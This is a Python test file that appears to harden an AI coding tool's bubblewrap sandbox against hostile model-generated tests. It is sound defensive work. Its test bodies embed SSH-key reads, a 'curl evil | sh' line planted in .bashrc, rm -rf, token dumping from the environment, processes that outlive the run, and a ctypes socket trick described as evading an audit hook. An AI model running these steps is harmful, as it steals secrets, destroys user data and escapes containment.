"""Hostile generated tests against the REAL OS sandbox (bubblewrap), one per item of finding 3.

Every test drives :func:`lfcode.testgen.verify.run_tests` (or the ``lfcode tests --run`` CLI) with a
test file a malicious model could have written and checks the concrete effect on this machine:
a fake ``$HOME`` with ``.ssh/id_rsa`` and ``.bashrc``, a folder outside the project, the real
project, an API token in lfcode's environment, host processes, a loopback server.

Without a working sandbox these tests FAIL (they never skip): see :func:`sandbox_required`.
"""

from __future__ import annotations

import hashlib
import json
import os
import shutil
import socket
import sys
import tempfile
import threading
import uuid
from pathlib import Path

import pytest
from click.testing import CliRunner

from lfcode.cli import cli
from lfcode.testgen import verify
from lfcode.testgen.verify import run_tests
from lfcode.execution import INSTALL_HINT, Limits, Sandbox, interpreter_paths, sandbox_status

#: Every test here runs generated code in the real bubblewrap sandbox: the slow tier.
pytestmark = [pytest.mark.sandbox, pytest.mark.model]

SECRET = "-----BEGIN OPENSSH PRIVATE KEY----- sandbox-canary-51c0 -----END OPENSSH PRIVATE KEY-----\n"
BASHRC = "# the user's own shell start-up file\nexport PS1='$ '\n"
TOKEN = "canary-aws-secret-9d1e0c"
SOURCE = "def add(a, b):\n    return a + b\n"
OK_TEST = "\n\ndef test_ok():\n    assert add(1, 2) == 3\n"


@pytest.fixture(autouse=True)
def sandbox_required() -> None:
    """Fail (never skip) when bubblewrap is missing or cannot create a sandbox here."""
    works, reason = sandbox_status()
    assert works, f"the OS sandbox does not work here ({reason}); {INSTALL_HINT}"


def tree_hash(root: Path) -> dict[str, str]:
    return {str(p.relative_to(root)): hashlib.sha256(p.read_bytes()).hexdigest() if p.is_file() and not p.is_symlink() else os.readlink(p) if p.is_symlink() else "dir"
            for p in sorted(root.rglob("*"))}


@pytest.fixture
def home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A fake ``$HOME`` for lfcode, with an SSH key and a shell profile."""
    folder = tmp_path / "home"
    (folder / ".ssh").mkdir(parents=True)
    (folder / ".ssh" / "id_rsa").write_text(SECRET)
    (folder / ".bashrc").write_text(BASHRC)
    monkeypatch.setenv("HOME", str(folder))
    return folder


@pytest.fixture
def outside() -> Path:
    """A folder outside the project and outside every hidden place (next to this file), so the
    sandbox sees it, read-only."""
    folder = Path(tempfile.mkdtemp(prefix=".lfcode-hostile-", dir=Path(__file__).parent))
    (folder / "keep.txt").write_text("keep me\n")
    yield folder
    shutil.rmtree(folder, ignore_errors=True)


@pytest.fixture
def project(outside: Path) -> Path:
    """The user's real project, in a place the sandbox can see (read-only)."""
    root = outside / "project"
    root.mkdir()
    (root / "pyproject.toml").write_text("")
    (root / "calc.py").write_text(SOURCE)
    (root / "escape.txt").symlink_to(outside / "keep.txt")
    return root


def run(root: Path, body: str, names: list[str], **options) -> verify.VerifyResult:
    return run_tests(root, root / "test_calc.py", "from calc import add\n\n" + body, names, **options)


def test_home_is_neither_written_nor_read(project: Path, home: Path) -> None:
    before = tree_hash(home)
    body = f"""
import os, subprocess

def test_attack():
    for path in ({str(home / '.ssh' / 'id_rsa')!r}, os.path.expanduser("~/.ssh/id_rsa")):
        try:
            print("READ", open(path).read())
        except OSError as exc:
            print("refused", exc)
    for path in ({str(home / '.bashrc')!r}, {str(home / 'pwned')!r}, os.path.expanduser("~/pwned")):
        try:
            with open(path, "a") as handle:
                handle.write("curl evil | sh\\n")
        except OSError as exc:
            print("refused", exc)
    os.system("touch ~/pwned {home}/pwned; cat {home}/.ssh/id_rsa ~/.ssh/id_rsa /root/.ssh/id_rsa")
    print("HOME", os.environ["HOME"], os.listdir(os.path.expanduser("~")))
""" + OK_TEST
    result = run(project, body, ["test_attack", "test_ok"])
    assert result.outcomes["test_ok"] == "passed" and result.sandboxed
    assert tree_hash(home) == before and not (home / "pwned").exists()
    assert "sandbox-canary" not in result.output


def test_files_outside_the_copy_are_not_deleted(project: Path, outside: Path, home: Path) -> None:
    before = tree_hash(outside)
    body = f"""
import os, shutil

def test_attack():
    os.system("rm -rf {outside}/keep.txt {home}")
    for target in ({str(outside)!r}, {str(home)!r}):
        shutil.rmtree(target, ignore_errors=True)
    try:
        os.remove({str(outside / 'keep.txt')!r})
    except OSError as exc:
        print("refused", exc)
""" + OK_TEST
    result = run(project, body, ["test_attack", "test_ok"])
    assert result.outcomes["test_ok"] == "passed"
    assert tree_hash(outside) == before and (home / ".ssh" / "id_rsa").read_text() == SECRET


def test_the_real_project_stays_byte_identical(project: Path, outside: Path) -> None:
    before, outside_before = tree_hash(project), (outside / "keep.txt").read_bytes()
    body = f"""
import os

def test_attack():
    os.system("echo 'x = 1' >> $PWD/calc.py; echo 'y = 2' >> {project}/calc.py; touch {project}/new.py")
    for path in ({str(project / 'calc.py')!r}, "escape.txt", os.path.join(os.getcwd(), "escape.txt")):
        try:
            with open(path, "a") as handle:  # escape.txt is a link to a file outside the project
                handle.write("# pwned\\n")
        except OSError as exc:
            print("refused", exc)
    assert os.path.realpath(os.getcwd()) != os.path.realpath({str(project)!r})
""" + OK_TEST
    result = run(project, body, ["test_attack", "test_ok"])
    assert result.outcomes == {"test_attack": "passed", "test_ok": "passed"}, result.output
    assert tree_hash(project) == before and (outside / "keep.txt").read_bytes() == outside_before


def test_tokens_in_lfcode_environment_are_not_visible(project: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", TOKEN)
    monkeypatch.setenv("GITHUB_TOKEN", TOKEN)
    body = """
import os

def test_attack():
    print(dict(os.environ))
    os.system("env; cat /proc/1/environ /proc/self/environ")
    assert not any("canary" in value for value in os.environ.values())
""" + OK_TEST
    result = run(project, body, ["test_attack", "test_ok"])
    assert result.outcomes == {"test_attack": "passed", "test_ok": "passed"}, result.output
    assert TOKEN not in result.output


def _processes_with(marker: str) -> list[int]:
    found = []
    for entry in os.listdir("/proc"):
        try:
            if entry.isdigit() and marker.encode() in Path(f"/proc/{entry}/cmdline").read_bytes():
                found.append(int(entry))
        except OSError:
            continue
    return found


def test_no_process_outlives_the_run(project: Path) -> None:
    marker = f"lfcode-marker-{uuid.uuid4().hex}"
    body = f"""
import os, subprocess, sys

def test_attack():
    child = subprocess.Popen(["sh", "-c", "sleep 300; echo {marker}"], start_new_session=True)
    if os.fork() == 0:  # double fork: a daemon re-parented to init
        os.setsid()
        if os.fork() == 0:
            os.execvp("sh", ["sh", "-c", "sleep 300; echo {marker}-daemon"])
        os._exit(0)
    print("STARTED", child.pid, flush=True)
""" + OK_TEST
    result = run(project, body, ["test_attack", "test_ok"])
    assert result.outcomes == {"test_attack": "passed", "test_ok": "passed"}, result.output
    assert _processes_with(marker) == []


def test_loopback_and_unix_services_are_unreachable(project: Path, tmp_path: Path) -> None:
    server = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    server.bind(("127.0.0.1", 0))
    server.listen(8)
    server.setblocking(False)
    port = server.getsockname()[1]
    unix_path = str(tmp_path / "service.sock")
    unix = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    unix.bind(unix_path)
    unix.listen(8)
    unix.setblocking(False)
    body = f"""
import ctypes, ctypes.util, os, socket, struct, subprocess, sys

def test_attack():
    subprocess.run(["curl", "-s", "-m", "3", "http://127.0.0.1:{port}/"])
    subprocess.run([sys.executable, "-c", "import socket; socket.create_connection(('127.0.0.1', {port}), 3)"])
    libc = ctypes.CDLL(ctypes.util.find_library("c"), use_errno=True)
    fd = libc.socket(2, 1, 0)  # AF_INET, SOCK_STREAM: the audit hook never sees this
    address = struct.pack("!HH4s8x", 2, {port}, bytes([127, 0, 0, 1]))
    address = struct.pack("=H", 2) + address[2:]
    print("ctypes connect", libc.connect(fd, ctypes.c_char_p(address), len(address)), ctypes.get_errno())
    try:
        socket.socket(socket.AF_UNIX).connect({unix_path!r})
    except OSError as exc:
        print("unix refused", exc)
""" + OK_TEST
    try:
        result = run(project, body, ["test_attack", "test_ok"])
        assert result.outcomes["test_ok"] == "passed", result.output
        for listener in (server, unix):
            with pytest.raises(BlockingIOError):
                listener.accept()  # nothing ever connected
    finally:
        server.close()
        unix.close()


def test_a_test_ignoring_or_blocking_the_alarm_is_killed(project: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(verify, "PER_TEST_SECONDS", 1)
    monkeypatch.setattr(verify, "GRACE_SECONDS", 1.0)
    body = """
import signal

def test_before():
    assert add(1, 1) == 2


def test_ignores():
    signal.signal(signal.SIGALRM, signal.SIG_IGN)
    while True:
        pass


def test_blocks():
    signal.pthread_sigmask(signal.SIG_BLOCK, {signal.SIGALRM})
    while True:
        pass
""" + OK_TEST
    result = run(project, body, ["test_before", "test_ignores", "test_blocks", "test_ok"], timeout=60)
    assert result.outcomes == {"test_before": "passed", "test_ignores": "failed", "test_blocks": "failed", "test_ok": "passed"}, result.output
    assert not result.timed_out and [k.rsplit("::", 1)[-1] for k in result.killed] == ["test_ignores", "test_blocks"]


def test_output_flooding_is_truncated(project: Path) -> None:
    body = """
import os, sys

def test_flood():
    for _ in range(40):
        sys.stdout.write("x" * 1_000_000)
    assert False
""" + OK_TEST
    result = run(project, body, ["test_flood", "test_ok"])
    assert result.outcomes == {"test_flood": "failed", "test_ok": "passed"}
    assert result.output_truncated and len(result.output) <= 4000


def test_limits_cancel_and_leftovers_of_the_sandbox_api(tmp_path: Path) -> None:
    python = os.path.realpath(sys.executable)
    box = Sandbox(tmp_path, readonly=interpreter_paths(python), limits=Limits(wall_seconds=30, cpu_seconds=1, output_bytes=1000))
    spin = box.run([python, "-c", "while True: pass"])
    assert spin.cpu_limited and spin.isolated and not spin.timed_out
    big = box.run([python, "-c", "open('big', 'wb').write(b'x' * (100 << 20))"])
    assert big.exit_code != 0 and (not (tmp_path / "big").exists() or (tmp_path / "big").stat().st_size <= Limits().file_bytes)
    cancel = threading.Event()
    cancel.set()
    assert box.run([python, "-c", "pass"], cancel=cancel).cancelled
    stopped = box.run(["sh", "-c", "sleep 300 & sleep 300"], watch=lambda: True)
    assert stopped.stopped and stopped.exit_code is None
    flood = box.run([python, "-c", "print('y' * 10_000_000)"])
    assert flood.output_truncated and len(flood.output) < 1200 and flood.exit_code == 0


def test_cli_drops_a_test_that_touches_home(tmp_path: Path, home: Path) -> None:
    root = tmp_path / "project"
    root.mkdir()
    (root / "pyproject.toml").write_text("")
    (root / "calc.py").write_text('def double(x):\n    """Twice x."""\n    return 2 * x\n')
    script = tmp_path / "fake.json"
    answer = "2) == 4 and not __import__(\"os\").system(\"touch ~/pwned\")\n"
    script.write_text(json.dumps({"responses": [answer]}))
    env = {"LFCODE_BACKEND": "fake", "LFCODE_FAKE_SCRIPT": str(script), "XDG_CONFIG_HOME": str(tmp_path / "config"), "HOME": str(home)}
    # --model-tests: the model's (hostile) test, not calls lfcode proposes itself.
    result = CliRunner().invoke(cli, ["tests", f"{root / 'calc.py'}::double", "--run", "--model-tests"], env=env)
    assert "0 kept, 1 dropped" in result.output and result.exit_code == 1, result.output
    assert not (home / "pwned").exists() and not Path(os.path.expanduser("~/pwned")).exists()
